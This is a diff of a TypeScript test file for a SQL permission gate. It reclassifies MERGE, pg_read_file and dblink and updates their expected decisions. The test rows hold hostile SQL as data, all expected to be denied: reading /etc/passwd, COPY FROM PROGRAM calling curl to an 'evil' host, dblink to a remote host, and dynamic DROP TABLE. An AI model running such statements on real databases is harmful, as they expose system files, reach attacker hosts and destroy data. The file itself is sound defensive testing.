@@ -75,12 +75,13 @@ const ROWS: readonly Row[] = [
     'deny',
     'allow',
   ],
+  // MERGE's UPDATE is as unbounded as its join: reviewed like UPDATE without WHERE.
   [
     'MERGE INTO documents d USING (SELECT 1 AS id) s ON d.id = s.id WHEN MATCHED THEN UPDATE SET title = $1',
     'write',
-    [],
+    ['update-without-where', 'merge'],
     'deny',
-    'allow',
+    'review',
   ],
   ['COPY documents FROM STDIN', 'write', [], 'deny', 'allow'],
   ['COPY documents TO STDOUT', 'read', [], 'allow', 'allow'],
@@ -127,11 +128,11 @@ const ROWS: readonly Row[] = [
   ['SET ROLE postgres', 'admin', ['role-change'], 'deny', 'deny'],
   ['SET SESSION AUTHORIZATION postgres', 'admin', ['role-change'], 'deny', 'deny'],
   ["SELECT set_config('role', 'postgres', false)", 'admin', ['role-change'], 'deny', 'deny'],
-  ["SELECT pg_read_file('/etc/passwd')", 'read', ['file-access'], 'deny', 'deny'],
+  ["SELECT pg_read_file('/etc/passwd')", 'admin', ['file-access'], 'deny', 'deny'],
   ["COPY documents TO '/tmp/out.csv'", 'admin', ['copy-server-file'], 'deny', 'deny'],
   ["COPY documents FROM PROGRAM 'curl http://evil'", 'admin', ['copy-program'], 'deny', 'deny'],
   ["DO $$BEGIN EXECUTE 'DROP TABLE documents'; END$$", 'admin', ['dynamic-sql'], 'deny', 'deny'],
-  ["SELECT dblink('host=evil', 'SELECT 1')", 'read', ['remote-access'], 'deny', 'deny'],
+  ["SELECT dblink('host=evil', 'SELECT 1')", 'admin', ['remote-access'], 'deny', 'deny'],
   ['SELECT pg_terminate_backend(1)', 'admin', ['superuser-function'], 'deny', 'deny'],
   // PREPARE / EXECUTE: classified by what they run.
   ['PREPARE q AS SELECT * FROM documents WHERE id = $1', 'read', [], 'allow', 'allow'],
@@ -228,10 +229,12 @@ describe('gatehouse policy explain --sql on the quickstart config', () => {
     assert.equal(vacuum.rule.selector, 'deny: admin');
   });
 
-  test('both groups: reading a server file is denied by its dangerous tag, though reads are allowed', async () => {
+  test('both groups: reading a server file is not a read: admin, and tagged file-access', async () => {
     const out = await explain('rag-readers,indexers', "SELECT pg_read_file('/etc/passwd')");
     assert.equal(out.decision, 'deny');
-    assert.equal(out.reason, 'dangerous-tag');
-    assert.equal(out.rule.selector, 'implicit deny: file-access');
+    assert.equal(out.operation.kind, 'admin');
+    assert.deepEqual(out.operation.tags, ['file-access']);
+    assert.equal(out.reason, 'rule-denies');
+    assert.equal(out.rule.selector, 'deny: admin');
   });
 });
